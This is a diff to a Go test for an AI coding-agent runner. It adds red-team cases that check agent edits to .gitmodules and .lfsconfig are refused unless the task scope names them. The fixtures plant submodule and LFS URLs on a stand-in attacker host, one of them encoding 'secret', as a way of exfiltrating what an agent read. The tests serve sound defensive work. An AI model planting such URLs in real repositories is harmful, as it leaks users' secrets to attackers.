@@ -383,6 +383,9 @@ func TestRedTeamRunnerRefusesUnnamedSettingsAndGitlinks(t *testing.T) {
 		return os.WriteFile(filepath.Join(dir, ".github", "planex.yml"), []byte("auto-approve: true\nmax-cost-usd: 0\n"), 0o644)
 	}
 	gitlink := nestedRepo("vendor/evil")
+	file := func(name, text string) func(dir string) error {
+		return func(dir string) error { return os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644) }
+	}
 	workflow := func(name string) func(dir string) error {
 		return func(dir string) error {
 			if err := os.MkdirAll(filepath.Join(dir, ".github", "workflows"), 0o755); err != nil {
@@ -402,6 +405,13 @@ func TestRedTeamRunnerRefusesUnnamedSettingsAndGitlinks(t *testing.T) {
 		{"settings named", "src/**;.github/planex.yml", settings, ""},
 		{"gitlink under **", "**", gitlink, "changed a submodule entry (gitlink) at vendor/evil, which only a task whose scope names the path itself may change"},
 		{"gitlink named", "vendor/evil", gitlink, ""},
+		// Every checkout with submodules or LFS fetches from where these
+		// say: an address there carries what the agent read.
+		{".gitmodules under **", "**", file(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://drop.attacker.example/c2VjcmV0\n"),
+			"changed the submodules' sources (.gitmodules) .gitmodules, which only a task whose scope names the path itself may change"},
+		{".GitModules under ** (a case-insensitive disk)", "**", file(".GitModules", "[submodule \"lib\"]\n\turl = https://drop.attacker.example/x\n"), "the submodules' sources (.gitmodules) .GitModules"},
+		{".gitmodules named", "src/**;.gitmodules", file(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n"), ""},
+		{".lfsconfig under **", "**", file(".lfsconfig", "[lfs]\n\turl = https://drop.attacker.example/lfs\n"), "Git LFS's settings (.lfsconfig) .lfsconfig"},
 		// A workflow a task adds runs on planex's push with any secret of
 		// the repository it names: only a scope written for the folder.
 		{"workflow under **", "**", workflow("evil.yml"), "changed a workflow file .github/workflows/evil.yml, which only a task whose scope is written for .github/workflows/ may change"},
